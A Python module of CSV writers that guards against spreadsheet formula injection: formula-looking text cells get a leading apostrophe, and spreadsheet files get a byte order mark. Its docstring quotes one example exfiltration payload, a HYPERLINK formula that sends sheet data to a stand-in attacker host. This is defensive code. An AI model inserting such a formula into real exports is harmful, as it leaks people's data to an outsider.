"""The one way the project writes CSV: every file and download goes through these writers.

People open our CSVs in spreadsheets, and the cells hold what others sent us (a collected
``userId``, a contact's name, a data provider's cookie id). A spreadsheet runs a cell starting
with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) as a formula, so
``=HYPERLINK("http://evil.example/?leak="&A1,"click")`` would send the sheet's data away when
clicked (CSV injection). Following OWASP, such a text cell gets a leading apostrophe: the
spreadsheet shows it as text and a program reading the CSV sees the value with one ``'`` more.
Numbers stay numbers: ints, floats and decimals, and text that is exactly a number (``-12.5``,
an E.164 phone number ``+31612345678``), which a spreadsheet reads as a number, never as a
formula.

Files meant for spreadsheets start with a UTF-8 byte order mark, without which Excel reads
UTF-8 as the local code page and shows ``JosÃ©`` for ``José``. Files uploaded to another system
(ad-platform audience lists) are written with ``bom=False``: those uploaders read the header
byte for byte.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

BOM = "\ufeff"
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(value: Any) -> Any:
    """``value`` as a spreadsheet may safely read it: formula-looking text gets a leading
    apostrophe; numbers and other text are unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return value if NUMBER.fullmatch(value) else "'" + value
    return value


class _BomFirst:
    """Writes the byte order mark together with the first line, so that a stream which
    appends a newline to each write (a management command's ``stdout``) gets no empty line,
    and an empty export stays empty."""

    def __init__(self, stream, bom: bool) -> None:
        self.stream = stream
        self.pending = BOM if bom else ""

    def write(self, text: str):
        if self.pending:
            text, self.pending = self.pending + text, ""
        return self.stream.write(text)


class SafeCsvWriter:
    """``csv.writer`` with every cell neutralised, and a byte order mark unless ``bom=False``."""

    def __init__(self, stream, *, bom: bool = True, **fmtparams) -> None:
        self._writer = csv.writer(_BomFirst(stream, bom), **fmtparams)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([neutralise(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class SafeDictWriter:
    """``csv.DictWriter`` with every cell (and header) neutralised, and a byte order mark
    unless ``bom=False``."""

    def __init__(
        self, stream, fieldnames: Sequence[str], *, bom: bool = True, **kwargs: Any
    ) -> None:
        self.fieldnames = list(fieldnames)
        self._writer = csv.DictWriter(_BomFirst(stream, bom), self.fieldnames, **kwargs)

    def writeheader(self):
        return self._writer.writerow({name: neutralise(name) for name in self.fieldnames})

    def writerow(self, row: Mapping[str, Any]):
        return self._writer.writerow({key: neutralise(value) for key, value in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)
